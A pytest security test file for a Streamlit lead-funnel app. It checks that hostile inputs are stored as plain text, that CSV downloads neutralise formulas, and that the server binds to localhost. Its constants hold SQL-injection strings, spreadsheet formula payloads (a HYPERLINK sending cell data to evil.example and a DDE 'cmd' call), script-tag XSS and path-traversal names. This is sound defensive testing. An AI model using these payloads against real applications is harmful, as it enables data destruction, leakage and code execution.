"""Hostile input: SQL-injection and spreadsheet-formula strings in every text the user gives
(sidebar choices, the Lab's draft name and lead id, a definition TOML, the importer's mapping
fields, file names, header names and CSV cells) are stored and shown as plain text and change
nothing else; downloads neutralise cells a spreadsheet would run; uploads are bounded; the
server listens on this machine only; the read-only viewer mode offers no saving or importing.
"""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import subprocess
import sys
import time
import tomllib
from pathlib import Path

import duckdb
import fixtures as fx
import pytest
import streamlit as st
from apptest_support import APP, navigation_only, release_streamlit_caches  # noqa: F401
from streamlit.testing.v1 import AppTest
from test_browser import free_port, wait_until_healthy

from funnelcast import cli, definitions, importer
from funnelcast.data import db
from funnelcast.lab import page as tl
from funnelcast.ui import dashboard, data_page

ROOT = Path(__file__).resolve().parent.parent
DROP = "'; drop table leads; --"
# SQL that would do harm if it were ever pasted into a statement, and cells a spreadsheet runs.
SQL_STRINGS = (DROP, "x' or '1'='1", 'Robert"); delete from leads; --', "$1; select * from meta")
FORMULAS = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
)
HOSTILE = (*SQL_STRINGS, *FORMULAS, "<script>alert(1)</script>", "ünïcødé ∑ 🚀")
FORMULA_STARTS = ("=", "+", "-", "@")


def counts(path: Path) -> dict[str, int]:
    """Return the rows of every canonical table of a database file."""
    con = db.connect(path, read_only=True)
    try:
        return {
            t: con.execute(f"select count(*) from {t}").fetchall()[0][0]
            for t in db.CANONICAL_TABLES
        }
    finally:
        con.close()


def checksum(path: Path) -> str:
    """Return the content checksum of a database file."""
    con = db.connect(path, read_only=True)
    try:
        return importer.content_checksum(con.cursor())
    finally:
        con.close()


@pytest.fixture
def writable_db(demo_db: Path, tmp_path: Path) -> Path:
    """Return a copy of the demo database that a test may write to."""
    path = tmp_path / "hostile.duckdb"
    shutil.copy(demo_db, path)
    return path


def open_page(monkeypatch, database: Path, page: str | None = None) -> AppTest:
    """Return the app after a run (on a page when given) against the database file."""
    monkeypatch.setenv("FUNNELCAST_DB", str(database))
    at = AppTest.from_file(str(APP), default_timeout=180).run()
    return at.switch_page(page).run() if page else at


# ===== the dashboard's inputs =====


@pytest.mark.parametrize("text", HOSTILE)
def test_sidebar_choices_the_data_does_not_offer_fall_back_to_the_defaults(
    monkeypatch, demo_db, text
):
    monkeypatch.setenv("FUNNELCAST_DB", str(demo_db))
    before = checksum(demo_db)
    at = AppTest.from_file(str(APP), default_timeout=120)
    at.session_state[dashboard.QUARTER_KEY] = text
    at.session_state[dashboard.CHANNEL_KEY] = text
    at.run()

    assert not at.exception
    assert at.selectbox(key=dashboard.CHANNEL_KEY).value == dashboard.ALL_CHANNELS
    assert at.selectbox(key=dashboard.QUARTER_KEY).value == "2026Q3"
    assert checksum(demo_db) == before


def test_a_hostile_draft_name_is_saved_as_plain_text_and_nothing_else_changes(
    monkeypatch, writable_db
):
    name = f"{DROP} {FORMULAS[0]} <b>bold</b>"
    before = counts(writable_db)
    at = open_page(monkeypatch, writable_db, "pages/threshold_lab.py")
    at.text_input(key=tl.NAME_KEY).set_value(name)
    at.slider(key=tl.THRESHOLD_KEY).set_value(70.0).run()
    at.button(key="lab_save").click().run()

    assert not at.exception
    assert any(f"Saved as version 2 {name!r}" in s.value for s in at.success)
    con = db.connect(writable_db, read_only=True)
    try:
        saved = definitions.load(con.cursor(), 2)
    finally:
        con.close()
    assert saved.name == name and saved.threshold == 70.0
    after = counts(writable_db)
    assert after["definitions"] == before["definitions"] + 1
    assert {t: n for t, n in after.items() if not t.startswith("definition")} == {
        t: n for t, n in before.items() if not t.startswith("definition")
    }


@pytest.mark.parametrize("text", [DROP, FORMULAS[0], "x' union select value from meta --"])
def test_a_hostile_lead_id_to_explain_gets_a_message(monkeypatch, demo_db, text):
    at = open_page(monkeypatch, demo_db, "pages/threshold_lab.py")
    at.text_input(key=tl.LEAD_KEY).set_value(text).run()

    assert not at.exception
    assert any("no lead with id" in w.value for w in at.warning)


def test_a_hostile_definition_toml_is_stored_verbatim(demo_db, tmp_path, capsys):
    database = tmp_path / "definition.duckdb"
    shutil.copy(demo_db, database)
    before = counts(database)
    template = tmp_path / "draft.toml"
    assert cli.main(["definition", "show", "--db", str(database)]) == 0
    text = capsys.readouterr().out
    document = tomllib.loads(text)
    name, note, value = SQL_STRINGS[2], FORMULAS[1], DROP

    def toml(s: str) -> str:
        return json.dumps(s)  # a JSON string is a valid TOML basic string

    text = text.replace(f"name = {toml(document['name'])}", f"name = {toml(name)}")
    text = text.replace(f"note = {toml(document['note'])}", f"note = {toml(note)}")
    rule = f'{{ field = "industry", op = "is", value = {toml(value)}, points = 3 }},'
    text = text.replace("fit = []", "fit = [\n]").replace("fit = [\n", f"fit = [\n    {rule}\n", 1)
    template.write_text(text)

    assert (
        cli.main(["definition", "save", "--db", str(database), str(template), "--quarter", "next"])
        == 0
    )
    capsys.readouterr()
    assert (
        cli.main(["definition", "show", "--db", str(database), "--id", "2", "--format", "json"])
        == 0
    )
    shown = json.loads(capsys.readouterr().out)

    assert shown["name"] == name and shown["note"] == note
    assert {"attribute": "industry", "value": value} in [
        {k: r[k] for k in ("attribute", "value")} for r in shown["fit_rules"]
    ]
    after = counts(database)
    assert after["leads"] == before["leads"] and after["events"] == before["events"]
    assert after["definitions"] == before["definitions"] + 1


@pytest.mark.parametrize("text", [DROP, "x' or '1'='1"])
def test_cli_filters_with_sql_in_them_select_nothing_and_change_nothing(demo_db, capsys, text):
    before = checksum(demo_db)
    code = cli.main(["metrics", "--db", str(demo_db), "--channel", text, "--format", "json"])
    out, err = capsys.readouterr()
    if code == 0:  # an unknown channel: no leads of it
        assert json.loads(out)["leads"] == 0
    else:
        assert code == 2 and err.count("\n") == 1 and text in err
    bad = cli.main(["metrics", "--db", str(demo_db), "--quarter", text])
    assert bad == 2 and capsys.readouterr().err.startswith("funnelcast: ")
    assert checksum(demo_db) == before


# ===== the importer: file names, header names, cells and every mapping field =====


@pytest.fixture
def small_db(tmp_path: Path) -> Path:
    """A database file with two leads and one event: enough to see that nothing else moved."""
    path = tmp_path / "small.duckdb"
    con = fx.new_database(path)
    fx.add_journeys(
        con,
        [
            fx.Journey("L1", "2026-01-05", "search", events=[("email_open", "2026-01-06")]),
            fx.Journey("L2", "2026-02-01", "social"),
        ],
    )
    con.close()
    return path


def test_hostile_file_name_headers_cells_and_mapping_fields_load_as_plain_text(small_db, tmp_path):
    header = DROP  # a header name that is SQL
    file = tmp_path / "leads'; drop table leads; --.csv"
    rows = [["lead_id", "created_at", "channel", header, "region"]]
    rows += [
        [text, "2026-03-01", text, FORMULAS[i % len(FORMULAS)], "N/A"]
        for i, text in enumerate(HOSTILE)
    ]
    with file.open("w", newline="", encoding="utf-8") as out:
        csv.writer(out).writerows(rows)
    mapping = importer.Mapping(
        "leads",
        columns={header: "campaign"},
        constants={"company": SQL_STRINGS[1]},
        defaults={"region": FORMULAS[3]},
        placeholders=("N/A", DROP + "x"),
    )
    con = db.connect(small_db)
    try:
        result = importer.import_file(con.cursor(), file, mapping)
        stored = con.execute(
            "select lead_id, channel, campaign, company, region from leads "
            "where lead_id not in ('L1', 'L2') order by lead_id"
        ).fetchall()
        events = con.execute("select count(*) from events").fetchall()[0][0]
    finally:
        con.close()

    assert result.inserted == len(HOSTILE)
    expected = sorted(
        (text, text, FORMULAS[i % len(FORMULAS)], SQL_STRINGS[1], FORMULAS[3])
        for i, text in enumerate(HOSTILE)
    )
    assert stored == expected
    assert events == 1


def test_a_hostile_date_format_is_a_format_that_matches_nothing(small_db, tmp_path):
    file = tmp_path / "leads.csv"
    file.write_text("lead_id,created_at,channel\nL9,2026-03-01,search\n")
    before = checksum(small_db)
    mapping = importer.Mapping("leads", formats={"created_at": "%Y-%m-%d" + DROP})
    con = db.connect(small_db)
    try:
        with pytest.raises(importer.ImportProblems) as caught:
            importer.import_file(con.cursor(), file, mapping)
    finally:
        con.close()
    assert f"does not match the format %Y-%m-%d{DROP}" in str(caught.value)
    assert checksum(small_db) == before


@pytest.mark.parametrize("text", HOSTILE)
def test_mapping_toml_round_trips_any_text(text):
    mapping = importer.Mapping(
        "leads",
        columns={text: "lead_id"},
        constants={"channel": text},
        defaults={"region": text + '"\n[columns]\nx = "y'},
        formats={"created_at": text},
        placeholders=(text, ""),
    )
    assert importer.mapping_from_toml(importer.mapping_to_toml(mapping)) == mapping


@pytest.mark.parametrize("name", ["../../outside", "/etc/passwd", f"a/{DROP}", "..\\x"])
def test_a_saved_mapping_stays_in_the_mappings_folder(tmp_path, name):
    database = tmp_path / "db" / "f.duckdb"
    saved = data_page.save_mapping(database, name, importer.Mapping("leads"))
    assert saved.parent == data_page.mappings_dir(database)
    assert saved.name.endswith(".toml") and "/" not in saved.stem and ".." not in saved.stem
    assert list(tmp_path.rglob("*.toml")) == [saved]


@pytest.mark.parametrize("name", ["'; *", "..", "/", "  "])
def test_a_mapping_name_of_only_punctuation_is_refused(tmp_path, name):
    with pytest.raises(db.FunnelcastError, match="give the mapping a name"):
        data_page.save_mapping(tmp_path / "x.duckdb", name, importer.Mapping("leads"))
    assert not list(tmp_path.rglob("*.toml"))


# ===== downloads =====


def spreadsheet_runs(cell: str) -> bool:
    """Return whether a spreadsheet would run a CSV cell as a formula (numbers are fine)."""
    if not cell.startswith(FORMULA_STARTS):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def test_the_movers_download_neutralises_formula_cells(monkeypatch, writable_db):
    # A channel and a seniority named like formulas: a CRM export can hold anything.
    con = db.connect(writable_db)
    try:
        con.execute("update leads set channel = $c where channel = 'search'", {"c": FORMULAS[0]})
        con.execute(
            "update leads set seniority = $s where seniority is not null", {"s": FORMULAS[3]}
        )
    finally:
        con.close()
    offered: dict[str, object] = {}
    real = st.download_button

    def spy(label, data, *args, **kwargs):
        offered[kwargs.get("key")] = data  # the page makes the file when it is clicked
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(st, "download_button", spy)
    at = open_page(monkeypatch, writable_db, "pages/threshold_lab.py")
    at.slider(key=tl.THRESHOLD_KEY).set_value(at.slider(key=tl.THRESHOLD_KEY).value - 10).run()

    assert not at.exception
    assert "lab_movers_csv" in offered, "the page offered no movers download"
    data = offered["lab_movers_csv"]
    data = data() if callable(data) else data
    cells = [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]
    assert "'" + FORMULAS[0] in cells and "'" + FORMULAS[3] in cells
    assert not [c for c in cells if spreadsheet_runs(c)]


def test_the_review_escapes_hostile_channel_names(writable_db, tmp_path, capsys):
    evil = "</script><script>alert('x')</script>"
    con = db.connect(writable_db)
    try:
        con.execute("update leads set channel = $c where channel = 'search'", {"c": evil})
        con.execute("update spend set channel = $c where channel = 'search'", {"c": evil})
    finally:
        con.close()
    out = tmp_path / "review.html"
    assert (
        cli.main(["report", "--db", str(writable_db), "--quarter", "2026Q3", "--out", str(out)])
        == 0
    )
    capsys.readouterr()
    page = out.read_text(encoding="utf-8")
    assert evil not in page and "<script>alert(" not in page
    assert "&lt;/script&gt;&lt;script&gt;alert(" in page  # shown, as text


# ===== uploads and the server =====


def test_uploads_are_bounded_by_the_server_and_the_page():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] == data_page.MAX_UPLOAD_MB
    limit = data_page.MAX_UPLOAD_MB * 2**20
    assert data_page.upload_problem("x.csv", limit) is None
    message = data_page.upload_problem(f"{DROP}.csv", limit + 1)
    assert message == (
        f"{DROP}.csv: the file is 200.0 MB and the page imports up to 200 MB; "
        "load it with `funnelcast import` instead"
    )


def listening_addresses(port: int) -> set[str]:
    """Return the local addresses of the TCP sockets listening on a port (from /proc/net)."""
    found = set()
    for name, width in (("tcp", 8), ("tcp6", 32)):
        lines = Path(f"/proc/net/{name}").read_text().splitlines()[1:]
        for line in lines:
            local, _, state = line.split()[1:4]
            address, hex_port = local.split(":")
            if state == "0A" and int(hex_port, 16) == port:  # 0A: LISTEN
                assert len(address) == width
                found.add(address)
    return found


LOOPBACK = {"0100007F", "00000000000000000000000001000000"}  # 127.0.0.1 and ::1, as /proc writes


def test_the_server_listens_on_this_machine_only_by_default(demo_db, tmp_path):
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["address"] == "localhost"
    port = free_port()
    log = tmp_path / "streamlit.log"
    with log.open("w") as out:
        server = subprocess.Popen(
            [sys.executable, "-m", "streamlit", "run", "app.py", "--server.port", str(port)],
            cwd=ROOT,
            env={**os.environ, "FUNNELCAST_DB": str(demo_db)},
            stdout=out,
            stderr=subprocess.STDOUT,
        )
        try:
            wait_until_healthy(f"http://127.0.0.1:{port}", server, log)
            addresses = listening_addresses(port)
        finally:
            server.terminate()
            server.wait(timeout=20)
    assert addresses and addresses <= LOOPBACK, addresses


# ===== the read-only viewer mode =====


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("", False),
        ("0", False),
        ("false", False),
        ("No", False),
        ("off", False),
        ("1", True),
        ("true", True),
        ("yes", True),
        ("anything", True),
    ],
)
def test_viewer_mode_setting(monkeypatch, value, expected):
    monkeypatch.setenv(dashboard.VIEWER_ENV, value)
    assert dashboard.viewer_mode() is expected


def test_viewer_mode_turns_off_saving_and_importing(monkeypatch, writable_db):
    monkeypatch.setenv(dashboard.VIEWER_ENV, "1")
    before = checksum(writable_db)

    lab = open_page(monkeypatch, writable_db, "pages/threshold_lab.py")
    lab.slider(key=tl.THRESHOLD_KEY).set_value(70.0).run()
    assert not lab.exception
    assert "lab_save" not in [b.key for b in lab.button]
    assert any("Read-only viewer" in i.value and "not saved" in i.value for i in lab.info)
    assert any(m.label == "MQLs" for m in lab.metric)  # the Lab itself still works

    planner = open_page(monkeypatch, writable_db, "pages/planner.py")
    planner.number_input(key="planner_customers").set_value(99).run()
    assert not planner.exception
    assert planner.button(key="planner_save").disabled
    assert any("Read-only viewer" in c.value for c in planner.caption)

    data = open_page(monkeypatch, writable_db, "pages/data.py")
    assert not data.exception
    assert any("Read-only viewer" in i.value and "importing" in i.value for i in data.info)
    assert not data.get("file_uploader")
    assert checksum(writable_db) == before


def test_without_viewer_mode_the_same_pages_offer_saving_and_importing(monkeypatch, demo_db):
    monkeypatch.delenv(dashboard.VIEWER_ENV, raising=False)
    lab = open_page(monkeypatch, demo_db, "pages/threshold_lab.py")
    assert "lab_save" in [b.key for b in lab.button]
    planner = open_page(monkeypatch, demo_db, "pages/planner.py")
    planner.number_input(key="planner_customers").set_value(99).run()
    assert not planner.button(key="planner_save").disabled
    data = open_page(monkeypatch, demo_db, "pages/data.py")
    assert data.get("file_uploader")
    assert not any("Read-only viewer" in i.value for i in [*lab.info, *data.info])


def test_tables_offer_no_csv_export_of_their_own(monkeypatch):
    """st.dataframe's own CSV download would write formula cells as they are: it is turned off
    in the shipped config, and Streamlit reads it so from the repository root."""
    from streamlit import config

    shipped = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert shipped["client"]["disableDataExport"] is True
    monkeypatch.chdir(ROOT)
    try:
        config.get_config_options(force_reparse=True)
        assert config.get_option("client.disableDataExport") is True
    finally:
        monkeypatch.undo()
        config.get_config_options(force_reparse=True)
